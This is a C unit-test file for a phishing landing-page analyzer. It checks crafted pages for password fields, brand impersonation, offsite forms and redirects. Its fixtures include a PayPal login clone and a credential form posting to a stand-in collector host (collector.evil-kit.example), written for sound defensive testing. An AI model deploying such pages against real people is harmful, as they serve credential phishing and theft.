/* The landing-page analysis (fetch/analyze.h) on crafted pages: a login
 * clone of a brand on another domain, a clean newsletter landing page,
 * offsite forms, meta-refresh and script redirects, the brand's own site,
 * and tags cut off at the end of the bytes. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <string.h>
#include <cmocka.h>

#include "core/conf_phish.h"
#include "fetch/analyze.h"
#include "test_util.h"

static const char login_clone[] =
	"<!DOCTYPE html><html><head><title>PayPal: Log in to your account</title>"
	"<style>.x{color:red}</style></head><body>"
	"<img src=\"/img/logo.svg\" alt=\"PayPal\">"
	"<form method=\"post\" action=\"/signin.php\">"
	"<input type=\"email\" name=\"login_email\" placeholder=\"Email\">"
	"<INPUT TYPE=password name=login_password>"
	"<button type=submit>Log In</button></form></body></html>";

static const char newsletter[] =
	"<html><head><title>Spring garden sale - Greenleaf Nursery</title>"
	"<meta name=\"viewport\" content=\"width=device-width\"></head><body>"
	"<h1>Our spring catalogue is here</h1><p>Tulips, roses and 200 more plants, "
	"delivered to your door. Pay with any card, including Visa and Mastercard, "
	"or with PayPal at checkout.</p>"
	"<a href=\"https://www.greenleaf-nursery.example/catalogue\">Browse</a>"
	"<img src=\"https://cdn.greenleaf-nursery.example/hero.jpg\" alt=\"Tulips\">"
	"<form action=\"https://www.greenleaf-nursery.example/search\"><input name=q>"
	"</form><script>var x = document.location.hash;</script>"
	"<!-- <form action=\"https://evil.example/\"><input type=password> -->"
	"</body></html>";

static const char offsite_form[] =
	"<html><head><title>Document shared with you</title></head><body>"
	"<p>Sign in to view the document</p>"
	"<form action='https://collector.evil-kit.example/post.php' method=post>"
	"<input type=text name=u><input type=hidden name=t value=1></form></body></html>";

static const char meta_refresh[] =
	"<html><head><meta http-equiv=\"Refresh\" content=\"0; URL='https://x.evil.example/'\">"
	"</head><body>Loading...</body></html>";

static const char js_redirect[] =
	"<html><body><script>\nwindow.location.replace(\"https://next.evil.example/a\");"
	"\n</script></body></html>";

static const char same_site_form[] =
	"<html><head><title>Sign in - PayPal</title></head><body>"
	"<img alt=\"PayPal\" src=\"logo.png\">"
	"<form action=\"https://www.paypal.com/signin\"><input type=password name=p></form>"
	"</body></html>";

static const char text_brand_password[] =
	"<html><body><p>Verify your Microsoft account now</p>"
	"<form><input type=password name=p></form></body></html>";

static const char truncated[] = "<html><title>Netflix</title><form><input type=pass";

/* "PASSWORD BRAND(b) FORM(h) REDIRECT(h)" */
static void
report_text(const struct landing_report *r, char *out, size_t len)
{
	snprintf(out, len, "%s%s%s%s%s%s%s%s%s%s",
	    r->flags & LANDING_F_PASSWORD ? "PASSWORD " : "",
	    r->flags & LANDING_F_BRAND ? "BRAND(" : "",
	    r->flags & LANDING_F_BRAND ? r->brand : "",
	    r->flags & LANDING_F_BRAND ? ") " : "",
	    r->flags & LANDING_F_FORM_OFFSITE ? "FORM(" : "",
	    r->flags & LANDING_F_FORM_OFFSITE ? r->form_host : "",
	    r->flags & LANDING_F_FORM_OFFSITE ? ") " : "",
	    r->flags & LANDING_F_REDIRECT ? "REDIRECT(" : "",
	    r->flags & LANDING_F_REDIRECT ? r->redirect_host : "",
	    r->flags & LANDING_F_REDIRECT ? ") " : "");
}

static void
test_pages(void **state)
{
	static const struct { const char *page, *host, *want; } cases[] = {
		{ login_clone, "secure-login.account-verify.example", "PASSWORD BRAND(paypal) " },
		{ login_clone, "www.paypal.com", "PASSWORD " },
		{ newsletter, "www.greenleaf-nursery.example", "" },
		{ offsite_form, "docs-share.example", "FORM(collector.evil-kit.example) " },
		{ offsite_form, "www.evil-kit.example", "" },
		{ meta_refresh, "a.example", "REDIRECT(x.evil.example) " },
		{ meta_refresh, "x.evil.example", "" },
		{ js_redirect, "a.example", "REDIRECT(next.evil.example) " },
		{ same_site_form, "paypal-help.example", "PASSWORD BRAND(paypal) FORM(www.paypal.com) " },
		{ text_brand_password, "login.example.net", "PASSWORD BRAND(microsoft) " },
		{ truncated, "n.example", "BRAND(netflix) " },	/* a cut tag: not a password */
		{ "", "a.example", "" },
		{ "<<<>>><a <b =>< / <!-- ", "a.example", "" },
	};
	size_t nb = 0;
	char got[1024], what[64];

	(void)state;
	while (conf_phish_brands_default[nb] != NULL)
		nb++;
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct landing_report r;
		landing_analyze(cases[i].page, strlen(cases[i].page), cases[i].host,
		    conf_phish_brands_default, nb, &r);
		report_text(&r, got, sizeof(got));
		snprintf(what, sizeof(what), "case %zu (%s)", i, cases[i].host);
		check_str(what, got, cases[i].want);
	}
	check_failures();
}

/* Every prefix of the login clone: no read past the end (ASan), and the
 * findings only grow as more of the page is seen. */
static void
test_prefixes(void **state)
{
	const char *brands[] = { "paypal" };
	unsigned prev = 0;

	(void)state;
	for (size_t n = 0; n <= sizeof(login_clone) - 1; n++) {
		struct landing_report r;
		landing_analyze(login_clone, n, "evil.example", brands, 1, &r);
		if ((r.flags & prev) != prev)
			fail_msg("prefix %zu: flags %#x lost some of %#x", n, r.flags, prev);
		prev = r.flags;
	}
	assert_int_equal(prev, LANDING_F_PASSWORD | LANDING_F_BRAND);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_pages),
		cmocka_unit_test(test_prefixes),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
